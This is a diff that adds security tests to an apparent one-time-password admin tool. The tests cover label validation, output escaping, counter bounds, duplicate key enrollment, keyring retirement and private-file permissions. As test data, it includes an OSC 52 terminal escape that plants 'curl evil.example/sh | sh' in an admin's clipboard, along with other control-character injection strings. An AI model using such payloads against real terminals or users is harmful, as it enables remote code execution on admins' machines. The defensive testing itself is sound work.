@@ -8,6 +8,7 @@ import io
 import struct
 import subprocess
 import uuid
+from dataclasses import replace
 from pathlib import Path
 
 import pyotp
@@ -434,3 +435,168 @@ def test_directory_commands_fail_in_one_line_without_a_config(tmp_path, capsys):
     assert "Base32" in capsys.readouterr().err
     assert main(["scratch", "a", "--config", "x", "--card", str(tmp_path / "c.pdf")]) == 2
     assert "HTML" in capsys.readouterr().err
+
+
+# -- attacks on the admin's tools ----------------------------------------------------------
+
+OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2ggfCBzaA==\x07"
+"""Sets the admin's clipboard to `curl evil.example/sh | sh` on many terminals."""
+
+
+@pytest.mark.parametrize("bad", [OSC52, "a\x1b[2J", "tab\there", "del\x7f", "c1\x9b31m", "\u202e"])
+def test_labels_with_control_characters_are_refused(bad):
+    with pytest.raises(ValueError, match="label: character U\\+"):
+        Token("t1", TokenType.TOTP, 0, label=bad)
+    with pytest.raises(ValueError, match="label"):
+        new_oath_token(OTP, TokenType.TOTP, label=bad)
+    token = Token("t1", TokenType.TOTP, 0, label="work phone é")
+    with pytest.raises(ValueError, match="label"):
+        replace(token, label=bad)  # what `otpgate rename` does
+
+
+def test_imported_labels_with_control_characters_are_row_problems():
+    from otpgate.importers.pskc import parse_pskc
+
+    # XML 1.0 cannot carry C0 characters (ESC, BEL); C1 ones (CSI U+009B) it can.
+    label = "\u009b2J\u009b31mfob"
+    text = (
+        '<KeyContainer Version="1.0" xmlns="urn:ietf:params:xml:ns:keyprov:pskc"><KeyPackage>'
+        '<Key Id="sn1" Algorithm="urn:ietf:params:xml:ns:keyprov:pskc:hotp">'
+        f"<FriendlyName>{label}</FriendlyName>"
+        f"<Data><Secret><PlainValue>{base64.b64encode(b'k' * 20).decode()}</PlainValue>"
+        "</Secret></Data></Key></KeyPackage></KeyContainer>"
+    )
+    result = parse_pskc(text.encode())
+    assert result.tokens == () and "label: character U+009B" in result.problems[0].message
+
+
+def test_stored_control_characters_are_escaped_on_output():
+    # A label stored before labels were checked: decoding cleans it (refusing it would make
+    # the user's whole state undecodable: no login, no `otpgate reset`).
+    old = Token.from_dict({"id": "t1", "type": "totp", "created": 0, "label": OSC52})
+    assert "\x1b" not in old.label and old.label.startswith("\\x1b]52;")
+    # Serials, DNs and user names are not labels: output escapes every cell.
+    sneaky = Token("t2", TokenType.HOTP, 0, serial="SN\x1b[8m", label="ok")
+    state = state_of((old, Secret(b"a" * 20)), (sneaky, Secret(b"b" * 20)))
+    summary = summarise("eve\x1b]0;x\x07", "uid=eve\x9b2J,dc=x", state)
+    shown, listed = show_text(summary, 0), list_text([summary], 0)
+    for text in (shown, listed):
+        assert not any(c in text for c in "\x1b\x07\x9b"), repr(text)
+        assert "SN\\x1b[8m" in text and "eve\\x1b]0;x\\x07" in text
+    assert "uid=eve\\x9b2J" in shown
+    printed = summary.to_dict(0)  # JSON output: json.dumps escapes control characters
+    assert "\x1b" in printed["tokens"][1]["serial"]
+
+
+def test_use_state_with_an_out_of_range_counter_does_not_decode():
+    from otpgate.otp.oath import MAX_COUNTER
+
+    assert TokenUse.from_dict({"l": MAX_COUNTER}).last == MAX_COUNTER
+    assert TokenUse.from_dict({"l": -1}).last == -1
+    for bad in (2**64, MAX_COUNTER + 1, -2):
+        with pytest.raises(ValueError, match=r"used.token.l: .* out of range"):
+            TokenUse.from_dict({"l": bad})
+        with pytest.raises(ValueError, match="out of range"):
+            UsedState.from_dict({"v": 1, "u": {"t1": {"l": bad}}})
+
+
+def test_enroll_change_refuses_a_key_enrolled_twice():
+    key = b"same-key-for-two-tokens"
+    first = new_oath_token(OTP, TokenType.TOTP, key=key)
+    state = state_of(first)
+    again = new_oath_token(OTP, TokenType.TOTP, key=key)
+    message = f"this key is already enrolled as token {first[0].id}"
+    with pytest.raises(PolicyError, match=message):
+        enroll_change(state, *again, max_tokens=5, replace_software=False)  # --keep-existing
+    with pytest.raises(PolicyError, match=message):
+        enroll_change(state, *again, max_tokens=5)  # replacing would restart its counter
+    as_hotp = new_oath_token(OTP, TokenType.HOTP, key=key)
+    with pytest.raises(PolicyError, match=message):
+        enroll_change(state, *as_hotp, max_tokens=5, replace_software=False)
+    # An inventory token with the same key under another serial (assign).
+    hw = Token("hw000001", TokenType.HOTP, 0, serial="SN-2")
+    with pytest.raises(PolicyError, match=message):
+        enroll_change(state, hw, Secret(key), 5, False, last=7)
+    other = new_oath_token(OTP, TokenType.TOTP, key=b"another-key-0123456789")
+    assert enroll_change(state, *other, max_tokens=5, replace_software=False).tokens
+
+
+def test_enroll_change_refuses_a_yubikey_enrolled_twice():
+    aes, private = b"A" * 16, b"P" * 6
+    yk = Token("yk000001", TokenType.YUBICO, 0, serial="yk1", public_id="vvgutbiedkvi")
+    state = state_of((yk, Secret(aes, private)))
+    same_key = Token("yk000002", TokenType.YUBICO, 0, serial="yk2", public_id="cccccccccccb")
+    with pytest.raises(PolicyError, match="already enrolled as token yk000001 \\(serial yk1\\)"):
+        enroll_change(state, same_key, Secret(aes, b"Q" * 6), 5, False)
+    same_device = Token("yk000003", TokenType.YUBICO, 0, serial="yk3", public_id="VVGUTBIEDKVI")
+    with pytest.raises(PolicyError, match="yk000001"):
+        enroll_change(state, same_device, Secret(b"B" * 16, private), 5, False)
+    new = Token("yk000004", TokenType.YUBICO, 0, serial="yk4", public_id="vvgutbiedkvj")
+    assert enroll_change(state, new, Secret(b"B" * 16, private), 5, False).tokens
+
+
+def test_enroll_change_bounds_the_imported_counter():
+    from otpgate.otp.oath import MAX_COUNTER
+
+    hw = Token("hw000001", TokenType.HOTP, 0, serial="SN-1")
+    change = enroll_change(OtpState(), hw, Secret(b"k" * 20), 5, False, last=MAX_COUNTER)
+    assert change.used is not None and change.used.use_of("hw000001").last == MAX_COUNTER
+    with pytest.raises(ValueError, match="out of range"):
+        enroll_change(OtpState(), hw, Secret(b"k" * 20), 5, False, last=2**64 - 1)
+
+
+def test_retire_refuses_when_the_keyring_changed_during_the_rekey(tmp_path):
+    """`rekey --retire` used to keep the file's *current* key: a keygen during a long rekey
+    made the new key current, and retire deleted the key every value had just been
+    rewritten under."""
+    from otpgate.admin.rekey import RetireRefused, retire_keys
+    from otpgate.vault import keygen, read_raw_keys
+
+    path = tmp_path / "keyring.json"
+    keygen(path, "old")
+    keygen(path, "target")
+    run_keys, target = read_raw_keys(path)  # what the rekey run loaded and encrypted with
+    assert target == "target"
+
+    keygen(path, "during")  # someone rotates again while the rekey runs
+    with pytest.raises(RetireRefused, match=r"current key .* is now 'during'"):
+        retire_keys(path, target, run_keys)
+    assert set(read_raw_keys(path)[0]) == {"old", "target", "during"}  # nothing deleted
+
+    path2 = tmp_path / "keyring2.json"
+    keygen(path2, "old")
+    keygen(path2, "target")
+    run_keys2, _ = read_raw_keys(path2)
+    keygen(path2, "staged", make_current=False)  # staged for the next rotation
+    with pytest.raises(RetireRefused, match="changed during the rekey"):
+        retire_keys(path2, "target", run_keys2)
+    assert set(read_raw_keys(path2)[0]) == {"old", "target", "staged"}
+
+    # Unchanged: exactly the rekey's key is kept, with its bytes.
+    assert retire_keys(path2, "target", read_raw_keys(path2)[0]) == ["old", "staged"]
+    keys, current = read_raw_keys(path2)
+    assert current == "target" and keys == {"target": run_keys2["target"]}
+
+
+def test_private_files_are_exclusive_0600_and_never_follow_symlinks(tmp_path):
+    import os
+
+    from otpgate.admin.render import PrivateFile
+
+    old_umask = os.umask(0)
+    try:
+        made = PrivateFile(tmp_path / "card.html")
+        made.write(b"secret")
+    finally:
+        os.umask(old_umask)
+    assert (tmp_path / "card.html").stat().st_mode & 0o777 == 0o600
+    with pytest.raises(FileExistsError):
+        PrivateFile(tmp_path / "card.html")
+    target = tmp_path / "target"
+    (tmp_path / "link.png").symlink_to(target)  # dangling: would create `target`
+    with pytest.raises(FileExistsError):
+        PrivateFile(tmp_path / "link.png")
+    assert not target.exists()
+    empty = PrivateFile(tmp_path / "qr.png")
+    empty.discard()
+    assert not (tmp_path / "qr.png").exists()
